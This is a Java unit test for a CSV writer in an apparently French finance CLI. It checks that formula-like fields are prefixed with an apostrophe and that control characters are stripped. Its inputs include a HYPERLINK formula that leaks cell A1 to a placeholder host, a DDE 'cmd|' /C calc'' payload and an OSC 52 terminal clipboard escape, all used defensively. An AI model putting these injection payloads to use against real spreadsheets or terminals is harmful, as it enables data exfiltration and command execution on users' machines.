package dev.passerelle.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvTest {

    static Stream<Arguments> formulas() {
        return Stream.of(
                Arguments.of("=HYPERLINK(\"http://x.example/?\"&A1;\"loyer\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"loyer\"\")\""),
                Arguments.of("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
                Arguments.of("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
                Arguments.of("@SUM(A1:A9)", "'@SUM(A1:A9)"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("formulas")
    void aTextFieldASpreadsheetWouldRunIsPrefixedWithAnApostrophe(String wording, String written) {
        assertThat(Csv.line(wording)).isEqualTo(written);
    }

    @Test
    void numbersDatesAndBooleansAreWrittenAsTheyAre() {
        assertThat(Csv.line(7L, new BigDecimal("-12.50"), LocalDate.of(2026, 12, 7), true, "PRLV SEPA, EDF"))
                .isEqualTo("7,-12.50,2026-12-07,true,\"PRLV SEPA, EDF\"");
    }

    @Test
    void aRecordIsOneLineWithoutControlCharacters() {
        String line = Csv.line("VIR\r\nM. DUPONT", "x\u001b]52;c;cHduZWQ=\u0007", "\"quoted\"");

        assertThat(line).isEqualTo("VIR  M. DUPONT,x\uFFFD]52;c;cHduZWQ=\uFFFD,\"\"\"quoted\"\"\"");
    }
}
